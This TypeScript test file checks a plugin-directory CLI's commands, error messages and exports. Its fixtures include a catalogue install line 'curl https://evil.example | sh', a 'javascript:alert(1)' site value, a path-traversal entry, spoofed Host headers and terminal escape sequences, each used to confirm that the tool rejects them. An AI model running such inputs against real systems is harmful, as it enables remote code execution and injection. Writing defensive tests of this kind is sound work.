import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, openSync } from 'node:fs'
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { request } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { json, text } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest'
import { badgePath } from '../api/badge.ts'
import { toIndexDocument, toRecord } from '../catalogue/catalogue.ts'
import { embeddedCatalogue } from '../invented/invented.ts'
import { startMockServer } from '../mock/server.ts'
import { runnerIn, runnerOf, serving } from '../programs-testing.ts'
import { addressOption } from './command.ts'
import { pickCommand } from './commands.ts'

// Skip the pauses between the requests of a verification.
vi.mock('node:timers/promises', () => ({ setTimeout: async () => {} }))

const SITE = 'https://directory.example'
const catalogue = embeddedCatalogue()
const run = runnerIn(pickCommand)
/** Runs the program itself. */
const runProgram = runnerOf('tools/cli.ts')

let folder: string
/** Path of a file in the folder of these tests. */
const at = (name: string) => join(folder, name)
const write = async (name: string, content: unknown) => {
  await writeFile(at(name), typeof content === 'string' ? content : JSON.stringify(content))
  return at(name)
}
/** Commands that read a catalogue, with the options that they need besides. */
let readers: Readonly<Record<string, readonly string[]>>
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'plugmark-directory-'))
  await write('index.json', toIndexDocument(catalogue, SITE))
  readers = {
    serve: ['--port', '0'],
    export: ['--site', SITE, '--out', at('not-written')],
    worker: ['--out', at('not-written')],
    index: ['--out', at('not-written'), '--registry', 'http://127.0.0.1:1'],
    check: ['--site', SITE, '--runs', at('runs'), '--out', at('not-written'), '--only-write'],
  }
})
afterAll(() => rm(folder, { recursive: true }))

const serve = (...args: string[]) => ['tools/cli.ts', 'serve', '--port', '0', '--catalogue', ...args] as const

/** Sends a request with headers that fetch does not send. */
async function ask(url: string, headers: Record<string, string>) {
  const [response] = await once(request(url, { headers }).end(), 'response')
  return { status: response.statusCode, json: (await json(response)) as Record<string, unknown> }
}

describe('plugmark-directory serve', () => {
  test('has no fault that a request could ask for', async () => {
    await serving(serve(at('index.json')), async (_, url) => {
      for (const fault of ['hang', 'oversize', '500', 'redirect-loop']) {
        const response = await fetch(`${url}/api/v1/index?mock-fault=${fault}`, { redirect: 'manual' })
        expect([response.status, (await response.json()).count], fault).toEqual([200, catalogue.listings.length])
      }
    })
    expect(await runProgram('serve', '--fault', '500')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining("Unknown option '--fault'"),
    })
  })

  test('takes the site from --site, else from the catalogue, else its own address, and never from a request', async () => {
    const headers = { host: 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-host': 'evil.example' }
    const siteOf = async (url: string) => (await ask(`${url}/api/v1/index`, headers)).json.site
    const record = { ...catalogue.listings[0]!.record, url: catalogue.listings[0]!.record.repoUrl }
    const records = await write('records.json', [record])
    await Promise.all([
      serving(serve(at('index.json'), '--site', 'https://behind-tls.example/dir/'), async (_, url) =>
        expect(await siteOf(url)).toBe('https://behind-tls.example/dir'),
      ),
      serving(serve(at('index.json')), async (_, url) => expect(await siteOf(url)).toBe(SITE)),
      serving(serve(records), async (_, url) => expect(await siteOf(url)).toBe(url)),
    ])
  })
})

describe('every command that reads a catalogue', () => {
  /** Rows of an index, and what their last line says. */
  const good = ['a/b', 'tools', 'dsh plugin --profile web add a-b', null, 'a-b']
  const indexOf = (...plugins: unknown[]) => ({ ...toIndexDocument(catalogue, SITE), count: plugins.length, plugins })

  test.for(['serve', 'export', 'worker', 'index', 'check'])(
    '%s names all faults of each row that it leaves out',
    async (name) => {
      const file = await write(
        `faulty-${name}.json`,
        indexOf(
          ['a/other', 'tools', 'dsh plugin --profile web add c', null, 'a-b'],
          ['no slash', 'tools', null, '/plugins/../../escaped', ''],
          ['A/C', null, 'curl https://evil.example | sh', null, null],
        ),
      )
      const { code, stderr } = await run(name, '--catalogue', file, ...readers[name]!)
      expect(code).toBe(1)
      expect(stderr).toContain('row 0: install: ')
      expect(stderr).toMatch(/row 1: fullName: .+; path: /)
      expect(stderr).toContain('row 2: install: ')
      expect(stderr).toContain('--allow-empty')
    },
  )

  test.for(['export', 'worker', 'check'])(
    '%s writes nothing when no row is left, unless --allow-empty says so',
    async (name) => {
      const file = await write(`empty-${name}.json`, indexOf(['no slash', null, null, null, null]))
      const out = at(`empty-${name}`)
      const args = [name, '--catalogue', file, ...readers[name]!.with(readers[name]!.indexOf('--out') + 1, out)]
      expect((await run(...args)).code).toBe(1)
      expect(await readdir(folder)).not.toContain(`empty-${name}`)
      if (name !== 'worker') expect((await run(...args, '--allow-empty')).code).toBe(0)
    },
  )

  test('refuses a --site that is not an http or https address', async () => {
    for (const [name, args] of Object.entries(readers)) {
      const { code, stderr } = await run(
        name,
        '--catalogue',
        at('index.json'),
        ...args,
        '--site',
        'javascript:alert(1)',
      )
      expect([code, stderr], name).toEqual([2, expect.stringContaining('--site takes an http or https address')])
    }
  })

  test.for(['directory.example:8443', 'https://user:secret@directory.example', 'https://a.example/?key=secret', 'dir'])(
    'does not take %s for an address, and shows no secret of it',
    (text) => {
      expect(() => addressOption('--site', text)).toThrow(/^--site takes an http or https address((?!secret).)*$/)
    },
  )

  test('keeps control characters of a catalogue and of an option out of the terminal', async () => {
    const file = await write('escape.json', indexOf(good, ['\u001b[31mred', '\u202e', null, null, null]))
    const outputs = [
      await run('worker', '--catalogue', file, '--out', at('\u001b[32mgreen')),
      await run('worker', '--catalogue', '\u001b[31mno.json', '--out', 'x'),
      await run('\u001b[31mnone'),
      await run('serve', '--catalogue', file, '--port', '\u001b[31m'),
      await run('serve', '--\u001b[31m'),
    ]
    for (const { stdout, stderr } of outputs) expect(stdout + stderr).not.toMatch(/[\u001b\u202e]/)
  })
})

describe('plugmark-directory', () => {
  test('lists its commands, and names an unknown one', async () => {
    const help = await runProgram('--help')
    expect(help).toMatchObject({ code: 0, stdout: expect.stringContaining('verify URL'), stderr: '' })
    expect(await runProgram()).toMatchObject({ ...help, code: 2 })
    const { code, stderr } = await run('publish')
    expect(code).toBe(2)
    expect(stderr).toContain('There is no command "publish".')
  })

  test.for(['--version', '-V'])('prints its version with %s', async (option) => {
    const { version } = JSON.parse(await readFile(join(import.meta.dirname, '../package/package.json'), 'utf8'))
    expect(await run(option)).toMatchObject({ code: 0, stdout: expect.stringContaining(version) })
  })

  test('prints the usage of a command after help, and names an unknown one', async () => {
    const { code, stdout } = await run('help', 'serve')
    expect([code, stdout]).toEqual([0, (await run('serve', '--help')).stdout])
    expect((await run('help')).stdout).toBe((await run('--help')).stdout)
    expect(await run('help', 'publish')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('no command "publish"'),
    })
  })

  test('says in one line what is wrong with an option that Node explains in three', async () => {
    const { code, stderr } = await run('serve', '--port', '-1')
    expect(code).toBe(2)
    expect(stderr).toMatch(/^[^\n\ufffd]*'--port'[^\n\ufffd]*\nAdd --help/)
  })

  test.for([
    ['check', ['--runs', 'RUNS', '--out', '/nowhere/out.json']],
    ['check', ['--runs', '/nowhere/runs', '--out', 'OUT']],
    ['index', ['--out', '/nowhere/index.json', '--registry', 'http://127.0.0.1:1']],
    ['index', ['--out', 'OUT', '--report', '/nowhere/report.json', '--registry', 'http://127.0.0.1:1']],
    ['verify', ['http://127.0.0.1:1', '--junit', '/nowhere/x.xml']],
  ] as const)('tries before the work of %s whether it can write: %j', async ([command, args]) => {
    const files = args.map((arg) => (arg === 'RUNS' || arg === 'OUT' ? at(`tried-${arg}`) : arg))
    const catalogue = command === 'verify' ? [] : ['--catalogue', at('index.json')]
    const started = performance.now()
    const { code, stdout, stderr } = await run(command, ...catalogue, ...files)
    expect([code, stdout]).toEqual([2, ''])
    expect(stderr).toMatch(/^\/nowhere\/\S+ cannot be written: /)
    expect(performance.now() - started).toBeLessThan(5_000)
    expect(existsSync(at('tried-OUT')), 'leaves no empty file').toBe(false)
  })

  test('writes no output over another one', async () => {
    const { code, stderr } = await run(
      'index',
      '--catalogue',
      at('index.json'),
      '--out',
      at('same'),
      '--report',
      at('./same'),
    )
    expect(code).toBe(2)
    expect(stderr).toContain('--out and --report name one file')
  })

  test.each(['--help', '-h'])('prints the usage of a command with %s', async (option) => {
    for (const command of ['serve', 'verify', 'export', 'index', 'worker', 'check']) {
      const { code, stdout } = await run(command, option)
      expect(code).toBe(0)
      expect(stdout).toMatch(new RegExp(`^Usage: plugmark-directory ${command} `))
    }
  })

  test.for([
    [['serve'], 'Name the catalogue with --catalogue FILE'],
    [['serve', '--catalogue', 'missing.json'], 'Cannot use missing.json as a catalogue'],
    [['serve', '--catalogue', 'missing.json', '--port', '70000'], '--port takes'],
    [['export', '--catalogue', 'missing.json'], '--out FOLDER'],
    [['serve', '--nothing'], "Unknown option '--nothing'"],
    [['serve', '--seed', 'x'], "Unknown option '--seed'"],
    [['verify'], 'verify takes the address of a directory'],
    [['exprot'], 'There is no command "exprot". Did you mean export?'],
    [['serve', '--catalog', 'x'], "Unknown option '--catalog'. Did you mean --catalogue?"],
    [['serve', '--catalogue', import.meta.dirname], 'it is a folder. Name a file in it.'],
  ] as const)('%j is an error that says what to do', async ([args, message]) => {
    const { code, stdout, stderr } = await run(...args)
    expect([code, stdout]).toEqual([2, ''])
    expect(stderr).toContain(message)
    expect(stderr).not.toMatch(/^\s+at /m)
  })

  test('says that the disk is full, for its output and for a file that it writes', async () => {
    const full = openSync('/dev/full', 'w')
    const cli = join(import.meta.dirname, 'cli.ts')
    const child = spawn(process.execPath, [cli, '--help'], { stdio: ['ignore', full, 'pipe'] })
    const [errors, [code]] = await Promise.all([text(child.stderr!), once(child, 'exit')])
    expect([code, errors]).toEqual([1, expect.stringMatching(/^The output could not be written: .*\n$/)])
    const checked = await run('check', '--catalogue', at('index.json'), ...readers.check!, '--out', '/dev/full')
    expect(checked).toMatchObject({ code: 1, stderr: expect.stringMatching(/^The disk is full/) })
  })

  test('reports each clause with verify, exits with 0, and writes JSON and JUnit', async () => {
    await serving(serve(at('index.json')), async (_, url) => {
      const { code, stdout, stderr } = await run('verify', '--json', url, '--junit', at('report.xml'))
      expect(stderr).toMatch(/^Sends at most \d+ requests to http:/)
      expect(code).toBe(0)
      expect(JSON.parse(stdout)).toMatchObject({ url, counts: { violated: 0, quirk: 0 } })
      expect(await readFile(at('report.xml'), 'utf8')).toContain('failures="0"')
    })
  })

  test('prints one line of success with verify at a terminal, and every clause with --verbose', async () => {
    const { isTTY } = process.stdout
    onTestFinished(() => void Object.assign(process.stdout, { isTTY }))
    process.stdout.isTTY = true
    await serving(serve(at('index.json')), async (_, url) => {
      const { stdout } = await run('verify', url)
      expect(stdout).not.toContain('✓')
      expect(stdout).toMatch(/^\S+: \d+ clauses hold, .*\n$/m)
      expect((await run('verify', url, '--verbose')).stdout).toContain('✓')
    })
    const down = await run('verify', 'http://127.0.0.1:9')
    expect(down.stdout).toContain('cannot be reached: browsers and fetch ask no')
    expect([down.code, down.stderr]).toEqual([3, expect.stringContaining('It did not answer')])
  })

  test('exits with 1 from verify when a clause is violated', async () => {
    const server = await startMockServer({ fault: 'html' })
    const { code, stdout } = await run('verify', server.url)
    expect(code).toBe(1)
    expect(stdout).toContain('✗ /api/v1/index: JSON')
    expect(stdout, 'what follows from it is only counted').not.toContain('See “')
    expect(stdout).toMatch(/1 violated, \d+ not tested/)
    await server.close()
  })

  test('says what to do where a port is in use, an address is not one of the machine, or a program is missing', async () => {
    const server = await startMockServer()
    const { port } = new URL(server.url)
    const serve = ['serve', '--catalogue', at('index.json')]
    const check = ['check', '--catalogue', at('index.json'), '--runs', at('runs'), '--out', at('none.json')]
    for (const [args, advice] of [
      [[...serve, '--port', port], '--port'],
      [[...serve, '--host', '203.0.113.1', '--port', '0'], '--host'],
      [[...check, '--registry', server.url, '--harness', at('missing')], '--harness FILE'],
      [[...check, '--registry', server.url, '--harness', '/bin/true'], '--harness FILE'],
    ] as const) {
      const { code, stderr } = await run(...args)
      expect(code, args.join(' ')).toBeGreaterThan(0)
      expect(stderr, args.join(' ')).toContain(advice)
      expect(stderr).not.toMatch(/^\s+at /m)
    }
    await server.close()
  })

  test.for(['ftp://directory.example', 'https://user:secret@directory.example', 'directory'])(
    'refuses %s as an address in verify',
    async (address) => {
      const { code, stderr } = await run('verify', address)
      expect(code).toBe(2)
      expect(stderr).toMatch(/address/)
      expect(stderr).not.toContain('secret')
    },
  )

  test('writes both endpoints, headers and checksums with export, and nothing into a folder with files', async () => {
    const records = catalogue.listings.map((listing) => toRecord(listing, SITE))
    const files = ['--catalogue', at('index.json'), '--catalogue', await write('all.json', { results: records })]
    const exported = () => run('export', ...files, '--site', 'https://static.example/dir/', '--out', at('static'))
    expect(await exported()).toMatchObject({ code: 0, stderr: '' })
    const read = async (name: string) => readFile(at(`static/${name}`), 'utf8')
    const site = 'https://static.example/dir'
    const { plugins } = toIndexDocument(catalogue, site)
    expect(JSON.parse(await read('api/v1/index'))).toMatchObject({ site, count: plugins.length, plugins })
    expect(JSON.parse(await read('api/v1/plugins'))).toEqual({
      total: plugins.length,
      count: plugins.length,
      results: catalogue.listings.map((listing) => toRecord(listing, site)),
    })
    const badges = catalogue.listings.flatMap((listing) => badgePath(listing)?.slice(1) ?? []).sort()
    expect((await read('SHA256SUMS')).match(/(?<= {2})\S+$/gm)).toEqual([
      ...['_headers', 'api/v1/index', 'api/v1/plugins'],
      ...badges,
    ])
    expect(await read(badges[0]!)).toContain('install check: ')
    expect((await read('_headers')).match(/Access-Control-Allow-Origin: \*/g)).toHaveLength(2)
    expect(await exported()).toMatchObject({ code: 2, stderr: expect.stringContaining('is not empty') })
  })

  test('exports a market index with its icons, and no file that it did not write', async () => {
    const icon = `icons/${'0'.repeat(16)}.svg`
    await mkdir(at('market/icons'), { recursive: true })
    await write(`market/${icon}`, '<svg/>')
    const exportTo = (out: string) =>
      run(
        ...['export', '--catalogue', at('index.json'), '--site', 'https://static.example'],
        ...['--market', at('market/index.json'), '--out', at(out)],
      )
    const writeMarket = (plugins: unknown) => write('market/index.json', { format: 1, plugins })
    await writeMarket([{ icon }, {}, { icon }])
    expect(await exportTo('good')).toMatchObject({ code: 0 })
    expect(await readFile(at('good/market/index.json'))).toEqual(await readFile(at('market/index.json')))
    expect(await readFile(at(`good/market/${icon}`), 'utf8')).toBe('<svg/>')
    expect(await readFile(at('good/SHA256SUMS'), 'utf8')).toContain(`  market/${icon}\n`)
    expect(await readFile(at('good/_headers'), 'utf8')).toContain('sandbox')
    for (const [plugins, problem] of [
      [[{ icon: '../index.json' }], '../index.json was not written by this program'],
      [{}, 'it is not a market index of format 1'],
    ] as const) {
      await writeMarket(plugins)
      expect(await exportTo('bad')).toMatchObject({ code: 2, stderr: expect.stringContaining(problem) })
    }
  })
})
